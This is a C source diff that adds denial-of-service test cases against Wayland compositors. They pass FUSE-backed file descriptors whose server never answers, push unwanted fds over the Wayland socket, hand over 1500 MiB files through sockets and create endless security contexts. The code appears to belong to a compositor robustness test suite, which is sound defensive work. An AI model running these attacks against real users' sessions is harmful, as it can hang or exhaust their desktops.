@@ -1,6 +1,7 @@
 // Sends fds that cannot be used as files of pixels.
 #include "attack.h"
 
+#include "security-context-v1-client-protocol.h"
 #include "virtual-keyboard-unstable-v1-client-protocol.h"
 
 #include <errno.h>
@@ -17,6 +18,7 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/timerfd.h>
+#include <sys/un.h>
 #include <unistd.h>
 
 static int open_pipe(void) {
@@ -137,9 +139,8 @@ static void serve_file(void *data) {
 				answer(fuse, header.unique, &(struct fuse_attr_out){.attr = attr}, sizeof(struct fuse_attr_out));
 			}
 		} else if (header.opcode == FUSE_OPEN) {
-			// Without this flag, closing any fd of the file in any program also blocks: see docs/load.md.
-			answer(fuse, header.unique, &(struct fuse_open_out){.open_flags = FOPEN_NOFLUSH},
-					sizeof(struct fuse_open_out));
+			// Whoever closes any fd of the file waits for an answer (FUSE_FLUSH), too.
+			answer(fuse, header.unique, &(struct fuse_open_out){0}, sizeof(struct fuse_open_out));
 		}
 	}
 }
@@ -177,14 +178,65 @@ static int open_fuse(pid_t *server) {
 	return fd;
 }
 
+static void send_fd(int socket_fd, const void *data, size_t size, int fd) {
+	union {
+		struct cmsghdr header;
+		char bytes[CMSG_SPACE(sizeof(int))];
+	} control = {0};
+	struct iovec iov = {.iov_base = (void *)(uintptr_t)data, .iov_len = size};
+	struct msghdr message = {
+		.msg_iov = &iov,
+		.msg_iovlen = 1,
+		.msg_control = control.bytes,
+		.msg_controllen = sizeof(control.bytes),
+	};
+	control.header.cmsg_level = SOL_SOCKET;
+	control.header.cmsg_type = SCM_RIGHTS;
+	control.header.cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(&control.header), &fd, sizeof(int));
+	if (sendmsg(socket_fd, &message, MSG_NOSIGNAL) != (ssize_t)size) {
+		fail("cannot send an fd: %s", strerror(errno));
+	}
+}
+
+// libwayland would close its copy of the fd, and so wait for the file's server.
+static void send_with_fd(struct wl_display *display, const void *data, size_t size, int fd) {
+	wl_display_flush(display);
+	send_fd(wl_display_get_fd(display), data, size, fd);
+}
+
+// The byte is the first one of a message that is never complete.
+static void send_unwanted_fd(struct wl_display *display, int fd) {
+	send_with_fd(display, "", 1, fd);
+}
+
+static void create_pool(struct attacker *attacker, int fd, int32_t size) {
+	struct wl_proxy *pool = wl_proxy_create((struct wl_proxy *)attacker->shm, &wl_shm_pool_interface);
+	const uint32_t message[4] = {
+		wl_proxy_get_id((struct wl_proxy *)attacker->shm),
+		sizeof(message) << 16 | WL_SHM_CREATE_POOL,
+		wl_proxy_get_id(pool),
+		(uint32_t)size,
+	};
+	send_with_fd(attacker->display, message, sizeof(message), fd);
+}
+
+static void set_keymap(struct attacker *attacker, struct zwp_virtual_keyboard_v1 *keyboard, int fd, uint32_t size) {
+	const uint32_t message[4] = {
+		wl_proxy_get_id((struct wl_proxy *)keyboard),
+		sizeof(message) << 16 | ZWP_VIRTUAL_KEYBOARD_V1_KEYMAP,
+		WL_KEYBOARD_KEYMAP_FORMAT_XKB_V1,
+		size,
+	};
+	send_with_fd(attacker->display, message, sizeof(message), fd);
+}
+
 // The server must not even query the size.
 ATTACK("file-whose-server-never-answers") {
 	struct attacker attacker;
 	pid_t server;
 	attacker_connect(&attacker);
-	int fd = open_fuse(&server);
-	wl_shm_create_pool(attacker.shm, fd, 4096);
-	wl_display_flush(attacker.display);
+	create_pool(&attacker, open_fuse(&server), 4096);
 	sleep_ms(1500);
 	// Killing the file's server wakes blocked processes, so that the attack's effects end with it.
 	stop_child(server);
@@ -201,8 +253,98 @@ ATTACK("keymap-whose-server-never-answers") {
 	int fd = open_fuse(&server);
 	struct zwp_virtual_keyboard_v1 *keyboard =
 			zwp_virtual_keyboard_manager_v1_create_virtual_keyboard(attacker.keyboards, attacker.seat);
-	zwp_virtual_keyboard_v1_keymap(keyboard, WL_KEYBOARD_KEYMAP_FORMAT_XKB_V1, fd, 4096);
-	wl_display_flush(attacker.display);
+	set_keymap(&attacker, keyboard, fd, 4096);
 	sleep_ms(1500);
 	stop_child(server);
+}
+
+// Closing any of them never ends. They are closed by whoever refuses them, and by libwayland, which knows of no request
+// that wants them.
+ATTACK("files-whose-server-never-answers-without-end") {
+	struct attacker attacker;
+	pid_t server;
+	attacker_connect(&attacker);
+	int fd = open_fuse(&server);
+	for (int i = 0; i < 40; i++) {
+		struct attacker other;
+		if (!attacker_try_connect(&other)) {
+			break;
+		}
+		create_pool(&other, fd, 4096);
+		for (int j = 0; j < 4; j++) {
+			send_unwanted_fd(other.display, fd);
+		}
+	}
+	sleep_ms(1500);
+	stop_child(server);
+	sleep_ms(100);
+}
+
+static int create_large_file(int64_t size) {
+	int fd = file_create(size, 0);
+	if (fallocate(fd, 0, 0, size) != 0) {
+		skip("not enough memory: %s", strerror(errno));
+	}
+	return fd;
+}
+
+// The server closes the last fd of the file, and so frees it.
+ATTACK("file-of-1500-MiB-dropped") {
+	struct attacker attacker;
+	attacker_connect(&attacker);
+	int fd = create_large_file(INT64_C(1500) << 20);
+	struct wl_shm_pool *pool = wl_shm_create_pool(attacker.shm, fd, 4096);
+	expect_alive(&attacker);
+	close(fd);
+	wl_shm_pool_destroy(pool);
+	expect_alive(&attacker);
+	hold();
+}
+
+// Large files that nobody has but a message in a socket, of which the server has the last fd.
+ATTACK("files-of-1500-MiB-in-a-socket-dropped") {
+	struct attacker attacker;
+	int sockets[2];
+	attacker_connect(&attacker);
+	int fd = create_large_file(INT64_C(1500) << 20);
+	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sockets) != 0) {
+		fail("cannot create sockets: %s", strerror(errno));
+	}
+	send_fd(sockets[0], "", 1, fd);
+	send_unwanted_fd(attacker.display, sockets[1]);
+	close(fd);
+	close(sockets[1]);
+	close(sockets[0]);
+	sleep_ms(100);
+	attacker_disconnect(&attacker);
+	hold();
+}
+
+// The server keeps two fds for each, and watches them with two more.
+ATTACK("security-contexts-without-end") {
+	struct attacker attacker;
+	attacker_connect(&attacker);
+	if (attacker.security == NULL) {
+		skip("the compositor has no wp_security_context_manager_v1");
+	}
+	for (int i = 0; i < 10000; i++) {
+		int listening = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), pipes[2];
+		struct sockaddr_un address = {.sun_family = AF_UNIX};
+		snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "lido-attack-%d-%d", (int)getpid(), i);
+		if (listening == -1 || pipe2(pipes, O_CLOEXEC) != 0 ||
+				bind(listening, (struct sockaddr *)&address, sizeof(address)) != 0 || listen(listening, 1) != 0) {
+			fail("cannot listen: %s", strerror(errno));
+		}
+		struct wp_security_context_v1 *context =
+				wp_security_context_manager_v1_create_listener(attacker.security, listening, pipes[0]);
+		wp_security_context_v1_commit(context);
+		wp_security_context_v1_destroy(context);
+		bool alive = attacker_try_roundtrip(&attacker);
+		close(listening);
+		close(pipes[0]); // the other end stays open, and so does the context
+		if (!alive) {
+			break;
+		}
+	}
+	expect_no_memory(&attacker);
 }
